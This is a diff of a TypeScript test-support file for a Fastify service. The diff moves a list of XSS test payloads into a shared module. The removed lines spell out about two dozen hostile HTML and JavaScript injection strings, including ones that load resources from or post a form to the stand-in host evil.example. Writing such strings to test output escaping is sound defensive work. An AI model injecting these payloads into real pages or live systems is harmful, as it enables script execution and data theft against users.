@@ -1,37 +1,13 @@
 import { randomUUID } from 'node:crypto';
 import type { FastifyInstance } from 'fastify';
 import { postEvents } from '../../../server/test/support/app.js';
+import { XSS_PAYLOADS } from '../../../server/test/support/xss.js';
 
 const DAY = 86_400_000;
 /** Events may be 90 days old in these tests (the service is started with a wider window). */
 export const MAX_AGE_HOURS = String(24 * 92);
 
-/** Hostile feedback text: each would run script, load something or send something if rendered as HTML. */
-export const XSS_PAYLOADS = [
-  '<img src=x onerror="window.__xss=1;alert(1)">',
-  '<script>window.__xss=2;alert(2)</script>',
-  '<a href="javascript:alert(3)">click me</a>',
-  '<svg onload="window.__xss=4;alert(4)"></svg>',
-  '<svg><script>alert(5)</script></svg>',
-  '"><img src=x onerror=alert(6)>',
-  "'><script>alert(7)</script>",
-  '<iframe src="javascript:alert(8)"></iframe>',
-  '<iframe srcdoc="<script>parent.alert(9)</script>"></iframe>',
-  '<body onload=alert(10)>',
-  '<details open ontoggle=alert(11)>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>',
-  '<object data="javascript:alert(13)"></object>',
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(14)">',
-  '<style>@import "https://evil.example/y.css";</style>',
-  '<img src="https://evil.example/pixel.gif">',
-  '<form action="https://evil.example/steal"><button formaction="javascript:alert(15)">go</button></form>',
-  '{{constructor.constructor("alert(16)")()}}',
-  '${alert(17)}',
-  'javascript:alert(18)',
-  '<input autofocus onfocus=alert(19)>',
-  '\u202Egnp.exe <b>bold</b> &lt;escaped&gt; &amp; <!-- comment -->',
-];
+export { XSS_PAYLOADS };
 
 export interface Seeded {
   total: number;
